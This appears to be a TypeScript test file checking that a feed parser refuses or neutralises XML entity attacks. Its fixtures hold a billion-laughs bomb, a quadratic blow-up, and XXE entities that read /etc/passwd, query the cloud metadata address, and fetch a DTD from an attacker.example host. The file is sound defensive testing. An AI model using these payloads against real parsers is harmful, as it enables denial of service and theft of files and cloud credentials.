/**
 * Entity attacks must be refused or neutralised within 1 s and without the heap growing by more
 * than ~50 MB. Brook strips every DOCTYPE before parsing and expands only short literal internal
 * entities, within a budget (prepareXml.ts); feedsmith's XML parser itself never expands entities.
 */
import { describe, expect, it } from 'vitest'
import type { NormalizedFeed } from '../normalize/types.ts'
import { FeedParseError, parseFeed } from './parseFeed.ts'
import { ENTITY_EXPANSION_BUDGET, neutralizeDoctype } from './prepareXml.ts'

const MB = 1024 * 1024

/**
 * Parses and reports heap growth; a FeedParseError counts as refusing the document. No timing: an
 * expanded bomb shows in the heap and the text, and a stalled parse in the test's own timeout.
 */
function measure(xml: string): { heapGrowthMb: number; feed: NormalizedFeed | null } {
  const heapBefore = process.memoryUsage().heapUsed
  let feed: NormalizedFeed | null = null
  try {
    feed = parseFeed(xml, { feedUrl: 'https://attacker.example/feed' })
  } catch (error) {
    if (!(error instanceof FeedParseError)) throw error
  }
  const heapGrowthMb = (process.memoryUsage().heapUsed - heapBefore) / MB
  return { heapGrowthMb, feed }
}

function rss(doctype: string, title: string): string {
  return `<?xml version="1.0"?>\n${doctype}\n<rss version="2.0"><channel><title>${title}</title><item><title>${title}</title><description>${title}</description></item></channel></rss>`
}

const BILLION_LAUGHS = `<!DOCTYPE lolz [
  <!ENTITY lol "lol">
  <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
  <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
  <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
  <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
  <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
  <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>`

describe('entity attacks', () => {
  it('billion laughs: nested entities are never expanded', () => {
    const r = measure(rss(BILLION_LAUGHS, '&lol9;'))
    expect(r.heapGrowthMb).toBeLessThan(50)
    expect(r.feed?.title ?? '').not.toMatch(/(lol){10}/)
    expect(r.feed?.entries[0].description ?? '').not.toMatch(/(lol){10}/)
  })

  it('quadratic blow-up: a long entity referenced many times is not expanded', () => {
    const big = 'a'.repeat(100_000)
    const refs = '&big;'.repeat(100_000)
    const r = measure(rss(`<!DOCTYPE r [<!ENTITY big "${big}">]>`, refs))
    expect(r.heapGrowthMb).toBeLessThan(50)
    expect(r.feed?.title ?? '').not.toContain('aaaa')
  })

  it('many short entities referenced many times stay within the expansion budget', () => {
    const value = 'x'.repeat(256)
    const doctype = `<!DOCTYPE r [${Array.from({ length: 64 }, (_, i) => `<!ENTITY e${i} "${value}">`).join('')}]>`
    const refs = Array.from({ length: 20_000 }, (_, i) => `&e${i % 64};`).join('')
    const xml = rss(doctype, refs)
    const prepared = neutralizeDoctype(xml)
    expect(prepared.length).toBeLessThan(xml.length + ENTITY_EXPANSION_BUDGET + 1)
    const r = measure(xml)
    expect(r.heapGrowthMb).toBeLessThan(50)
  })

  it('external entities (SYSTEM/PUBLIC) and parameter entities are never resolved', () => {
    const doctype = `<!DOCTYPE rss [
      <!ENTITY xxe SYSTEM "file:///etc/passwd">
      <!ENTITY web PUBLIC "-//x//y" "http://169.254.169.254/latest/meta-data/">
      <!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd">
      %remote;
    ]>`
    const r = measure(rss(doctype, 'a &xxe; b &web; c'))
    expect(r.feed?.title).not.toMatch(/root:|meta-data/)
    expect(r.feed?.title).toContain('a')
  })

  it('a second DOCTYPE in the prolog is removed too', () => {
    const xml = `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "A">]><!-- c --><!DOCTYPE y [<!ENTITY b "&a;&a;">]><rss version="2.0"><channel><title>&a;&b;</title></channel></rss>`
    expect(neutralizeDoctype(xml)).not.toContain('DOCTYPE')
    expect(measure(xml).feed?.title).toBe('A&b;')
  })

  it('a DOCTYPE inside the document (not XML) expands nothing', () => {
    const laughs = BILLION_LAUGHS.replace('<!DOCTYPE lolz [', '<!DOCTYPE rss [')
    const r = measure(`<rss version="2.0">${laughs}<channel><title>&lol9;</title></channel></rss>`)
    expect(r.heapGrowthMb).toBeLessThan(50)
    expect(r.feed?.title ?? '').not.toMatch(/(lol){10}/)
  })

  it('simple internal entities are still expanded, and HTML named entities decode without a DTD', () => {
    const doctype = '<!DOCTYPE rss [<!ENTITY id "tag:example.com,"> <!ENTITY co "Acme &amp; Co">]>'
    const feed = parseFeed(
      `${doctype}<rss version="2.0"><channel><title>Caf&eacute; &mdash; &copy; &co;</title><item><guid isPermaLink="false">&id;2006:/x</guid><title>&nbsp;Hi&hellip;</title></item></channel></rss>`,
      { feedUrl: 'https://example.com/feed' },
    )
    expect(feed.entries[0].guid).toBe('tag:example.com,2006:/x')
    // `&co;` holds an `&`, so it is not expanded and stays literal.
    expect(feed.title).toBe('Café — © &co;')
    expect(feed.entries[0].title).toBe('Hi…')
  })

  it('an RSS 0.91 DTD reference is harmless', () => {
    const feed = parseFeed(
      `<?xml version="1.0"?><!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" "http://my.netscape.com/publish/formats/rss-0.91.dtd"><rss version="0.91"><channel><title>Caf&eacute;</title></channel></rss>`,
      { feedUrl: 'https://example.com/feed' },
    )
    expect(feed.title).toBe('Café')
  })
})
